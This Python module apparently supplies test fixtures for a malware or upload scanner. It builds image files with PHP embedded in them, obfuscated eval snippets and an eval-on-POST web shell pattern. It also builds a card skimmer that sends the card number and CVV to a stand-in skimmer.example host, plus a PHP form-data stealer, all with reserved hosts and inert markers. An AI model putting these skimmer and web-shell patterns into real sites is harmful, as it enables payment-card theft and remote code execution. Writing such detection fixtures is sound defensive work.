"""Harmless content with the marks of harmful content. Hosts are reserved names (RFC 2606)."""
import base64
import random
import zlib

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360f8cf500f00038101003c3a5f3b0000000049454e44ae426082"
)
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + bytes([8] * 64) + bytes.fromhex("ffd9")
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00" + (
    b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)

# Does nothing, and is a program.
PHP = b"<?php\n$total = 0;\nforeach ($rows ?? [] as $row) { $total += $row; }\necho $total;\n"
# An image that would print a word when it is included.
PHP_IN_PNG = PNG[:-12] + b"\x00\x00\x00\x20tEXtComment\x00<?php echo 'marker'; ?>" + PNG[-12:]
PHP_IN_JPEG = JPEG[:-2] + b"\xff\xfe\x00\x1a<?php echo 'marker'; ?>" + JPEG[-2:]
# Runs nothing: the name of the function is never called with anything.
WEB_SHELL = b"<?php if (isset($_POST['marker_never_sent'])) { @eval($_POST['marker_never_sent']); }\n"
OBFUSCATED = (
    b"<?php $a=base64_decode('"
    + base64.b64encode(zlib.compress(b"echo 'marker';" * 40))
    + b"');$b='gz'.'unc'.'ompress';@eval($b($a));\n"
)
OBFUSCATED_JS = b"eval(String.fromCharCode(" + b",".join(b"%d" % byte for byte in b"document.title='marker';" * 8) + b"));\n"
SCRIPT = b'<script src="https://cdn.skimmer.example/jquery-3.7.1.min.js"></script>\n'
SKIMMER_JS = (
    b"document.querySelector('form').addEventListener('submit', function () {\n"
    b"  var n = document.querySelector('[name=card_number]').value;\n"
    b"  var c = document.querySelector('[name=cvv]').value;\n"
    b"  new Image().src = 'https://collect.skimmer.example/i.gif?d=' + btoa(n + '|' + c);\n"
    b"});\n"
)
STEALER_PHP = (
    b"<?php\nif (isset($_POST['card_number'])) {\n"
    b"  file_put_contents('/nonexistent/marker.log', base64_encode(json_encode($_POST)), FILE_APPEND);\n}\n"
)

# Numbers that payment companies publish for testing; they pass Luhn's check and belong to nobody.
CARDS = ["4111111111111111", "5555555555554444", "378282246310005", "6011111111111117", "3530111333300000"]


def card_lines(n=5):
    rows = (f"{CARDS[i % len(CARDS)]}|12/29|{100 + i}|TARO HINOKI\n" for i in range(n))
    return "".join(rows).encode()


def encrypted_records(n=1, size=128, seed=1):
    """Records of one size that look like nothing, as they are after encryption, one a line."""
    generator = random.Random(seed)
    return b"".join(base64.b64encode(generator.randbytes(size)) + b"\n" for _ in range(n))
